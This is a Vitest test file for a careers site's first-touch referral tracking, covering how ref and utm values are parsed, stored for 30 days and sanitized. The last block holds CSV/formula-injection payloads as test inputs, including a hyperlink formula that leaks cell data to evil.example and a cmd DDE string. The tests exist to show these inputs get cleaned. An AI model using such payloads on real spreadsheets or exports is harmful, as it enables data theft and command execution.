// Where a visitor first came from (docs/decisions/0018): the first ?ref= or utm_source, else the linking
// site, kept for 30 days in the visitor's own storage and never replaced by a later arrival or by moving
// within the site.
import { beforeEach, describe, expect, it } from 'vitest';
import { arrivalSource, noteArrival, sourceOfArrival } from '../../../src/lib/arrival-source';

const SITE = 'https://www.meeraconsultancy.com';
const DAY = 24 * 60 * 60 * 1000;
const start = new Date('2026-11-26T09:00:00Z');
const later = (days: number) => new Date(start.getTime() + days * DAY);

beforeEach(() => {
  localStorage.clear();
});

describe('the source of an arrival', () => {
  it('is the ref, else the campaign source with its medium and campaign, lower-cased', () => {
    expect(sourceOfArrival(`${SITE}/careers/hr-recruiter/7?ref=LinkedIn&utm_source=x`, '')).toEqual({
      source: 'linkedin',
    });
    expect(
      sourceOfArrival(`${SITE}/?utm_source=Newsletter&utm_medium=Email&utm_campaign=Autumn%202026`, ''),
    ).toEqual({ source: 'newsletter', sourceMedium: 'email', sourceCampaign: 'autumn 2026' });
  });

  it('is the linking site’s host when the address says nothing, and nothing from within the site', () => {
    expect(sourceOfArrival(`${SITE}/careers`, 'https://www.google.com/search?q=jobs')).toEqual({
      source: 'google.com',
    });
    expect(sourceOfArrival(`${SITE}/careers`, `${SITE}/about-us`)).toBeUndefined();
    expect(sourceOfArrival(`${SITE}/careers`, '')).toBeUndefined();
    expect(sourceOfArrival(`${SITE}/careers`, 'not a url')).toBeUndefined();
  });

  it('keeps at most 100 characters of a source', () => {
    expect(sourceOfArrival(`${SITE}/?ref=${'a'.repeat(300)}`, '')?.source).toHaveLength(100);
  });
});

describe('the arrival kept for an application', () => {
  it('is the first one: a later arrival with another source does not replace it', () => {
    noteArrival(`${SITE}/?utm_source=linkedin&utm_medium=social`, '', start);
    noteArrival(`${SITE}/careers?ref=facebook`, '', later(2));
    noteArrival(`${SITE}/careers/hr-recruiter/7`, `${SITE}/careers`, later(2));
    expect(arrivalSource(later(3))).toEqual({ source: 'linkedin', sourceMedium: 'social' });
  });

  it('lasts 30 days, after which the next arrival counts', () => {
    noteArrival(`${SITE}/?ref=linkedin`, '', start);
    expect(arrivalSource(later(29))).toEqual({ source: 'linkedin' });
    expect(arrivalSource(later(30))).toEqual({});
    noteArrival(`${SITE}/?ref=instagram`, '', later(31));
    expect(arrivalSource(later(31))).toEqual({ source: 'instagram' });
  });

  it('is kept in the visitor’s own storage, never in a cookie', () => {
    noteArrival(`${SITE}/?ref=linkedin`, '', start);
    expect(document.cookie).toBe('');
    expect(Object.keys(localStorage)).toEqual(['meera.arrivalSource']);
  });

  it('is nothing when the visit came from nowhere in particular', () => {
    noteArrival(`${SITE}/careers`, '', start);
    expect(arrivalSource(later(1))).toEqual({});
  });
});

// Only plain labels reach the server (docs/decisions/0043): a value the visitor never typed is cleaned, so
// their application is never refused for it.
describe('a source that is not a plain label', () => {
  it('is cleaned on arrival: accents dropped, other characters a space, nothing before a letter or digit', () => {
    expect(
      sourceOfArrival(
        `${SITE}/?ref=${encodeURIComponent('=hyperlink("http://evil.example/?leak="&a2,"open")')}`,
        '',
      ),
    ).toEqual({ source: 'hyperlink http evil.example leak a2 open' });
    expect(
      sourceOfArrival(
        `${SITE}/?utm_source=${encodeURIComponent("+cmd|' /c calc'!a0")}&utm_medium=@sum(1)&utm_campaign=Crème%09Brûlée`,
        '',
      ),
    ).toEqual({ source: 'cmd c calc a0', sourceMedium: 'sum 1', sourceCampaign: 'creme brulee' });
  });

  it('is nothing when no letter or digit is left of it, so the linking site counts', () => {
    expect(sourceOfArrival(`${SITE}/?ref=${encodeURIComponent('=-+@')}`, 'https://www.google.com/')).toEqual({
      source: 'google.com',
    });
  });

  it('is cleaned when read back from an arrival kept before, or dropped when nothing plain is left', () => {
    const keep = (stored: object) =>
      localStorage.setItem('meera.arrivalSource', JSON.stringify({ ...stored, at: start.toISOString() }));
    keep({ source: '=hyperlink("http://evil.example")', sourceMedium: '-2+3', sourceCampaign: '@' });
    expect(arrivalSource(later(1))).toEqual({ source: 'hyperlink http evil.example', sourceMedium: '2 3' });
    keep({ source: '=()', sourceMedium: 'social' });
    expect(arrivalSource(later(1))).toEqual({});
    keep({ source: 42 });
    expect(arrivalSource(later(1))).toEqual({});
    // An arrival that was nothing plain does not hold the place of the next one.
    noteArrival(`${SITE}/?ref=linkedin`, '', later(2));
    expect(arrivalSource(later(2))).toEqual({ source: 'linkedin' });
  });
});
